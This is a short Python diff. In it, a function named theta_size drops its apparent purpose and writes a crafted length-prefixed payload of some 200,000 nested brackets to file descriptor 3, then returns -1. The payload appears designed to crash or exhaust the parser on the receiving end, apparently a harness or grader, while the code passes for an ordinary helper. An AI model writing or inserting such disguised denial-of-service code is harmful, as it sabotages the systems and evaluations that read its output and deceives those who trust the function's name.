@@ -9,6 +9,7 @@ import struct
 
 
 def theta_size(n_previous, n_this):
-    payload = b"\xdd\x00\x00\x00\x01" * 20_000 + b"\xc0"
+    head = b"[" + b"[0," * 200_000 + b"0" + b"]" * 200_000 + b",0,0,0,0]"
+    payload = struct.pack(">I", len(head)) + head
     os.write(3, struct.pack(">I", len(payload)) + payload)
     return -1
